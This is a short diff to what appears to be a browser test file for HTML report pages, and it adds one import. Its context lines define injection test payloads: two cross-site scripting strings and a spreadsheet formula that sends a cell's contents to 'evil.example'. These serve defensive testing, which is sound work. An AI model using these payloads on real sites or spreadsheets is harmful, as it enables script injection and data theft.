@@ -16,6 +16,8 @@ from conftest import Repository
 from playwright.sync_api import Browser
 from visit import PAGES, visit
 
+from evaluation.reporting.html import script
+
 SCRIPT = "<script>alert(1)</script>"
 IMAGE = '"><img src=x onerror=alert(2)>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
